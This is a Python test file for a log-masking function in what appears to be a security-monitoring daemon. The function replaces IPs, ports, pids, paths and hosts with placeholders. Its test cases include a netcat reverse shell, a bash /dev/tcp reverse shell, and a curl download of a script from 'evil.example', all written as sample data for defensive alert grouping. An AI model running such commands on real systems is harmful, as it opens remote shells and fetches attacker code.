"""Masking keeps what tells causes apart and drops what tells incidents of one cause apart."""

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from daemon.enrichment.masking import MAX_MASKED, clean, mask


@pytest.mark.parametrize(
    ("text", "masked"),
    [
        ("nc -e /bin/bash 203.0.113.7 4444", "nc -e /bin/bash <ip> <num>"),
        ("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", "bash -i >& /dev/tcp/<ip>/<num> 0>&1"),
        ("Connection from 203.0.113.7:4444 to 10.0.0.0/8", "Connection from <ip> to <ip>"),
        ("2001:db8::1 ::1 fe80::1%eth0 ::ffff:192.0.2.1", "<ip> <ip> <ip>%eth0 <ip>"),
        ("pid=123 sshd[1234]: session-5.scope", "pid=<num> sshd[<num>]: session-<num>.scope"),
        ("/proc/123/mem", "/proc/<num>/mem"),
        ("disk 91.2% of 10GB for 5m", "disk <num> of <num> for <num>"),
        ("/tmp/.x1/a.sh; /var/tmp/q /dev/shm/k.ko", "/tmp/<name>; /var/tmp/<name> /dev/shm/<name>"),
        ("/home/alice/.ssh/authorized_keys", "/home/<user>/.ssh/authorized_keys"),
        ("curl http://u:p@evil.example:8080/x.sh", "curl http://<host>/x.sh"),
        ("container 4f1c2ab09d77 at 0xdeadbeef", "container <hex> at <hex>"),
        ("550e8400-e29b-41d4-a716-446655440000 started", "<uuid> started"),
        ("2026-05-01T10:00:00.123Z and 12:30:45", "<time> and <time>"),
        ("echo aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ= | base64 -d", "echo <blob> | base64 -d"),
    ],
)
def test_volatile_values_become_placeholders(text: str, masked: str) -> None:
    assert mask(text) == masked


@pytest.mark.parametrize(
    "text",
    [
        "python3.11 -c base64 sha256sum x86_64 T1059.004",
        "kill -9 nc6 2>&1",
        "feedface cafebabe facade",  # words of hex letters alone are words
        "/usr/bin/bash -p /etc/sudoers.d/README",
        "[redacted] user root",
    ],
)
def test_constants_stay(text: str) -> None:
    assert mask(text) == text


def test_mutations_of_one_command_give_one_text() -> None:
    one = "curl http://203.0.113.9/x.sh -o /tmp/a1b2 pid 77"
    other = "curl http://198.51.100.4:8080/x.sh -o /tmp/zz/9 pid 4100"
    assert mask(one) == mask(other)


@given(st.text(max_size=400))
def test_any_text_masks_to_something_encodable_and_stable(text: str) -> None:
    once = mask(text)
    once.encode("utf-8")
    assert "\n" not in once
    assert mask(once) == once


def test_lone_surrogates_and_length_are_tamed() -> None:
    assert clean("a\ud800b", 10) == "a?b"
    assert clean("  many\n\tspaces  ", 100) == "many spaces"
    assert len(clean("x" * 100_000, 50)) == 50


@pytest.mark.parametrize("piece", [":", "a", "0:", "1.", "/tmp/", "a1B", "://a@", "-", "a/", "A1+"])
def test_hostile_text_costs_milliseconds(piece: str) -> None:
    hostile = piece * (2_000_000 // len(piece))
    began = time.process_time()
    assert len(mask(hostile)) <= MAX_MASKED
    assert time.process_time() - began < 0.2
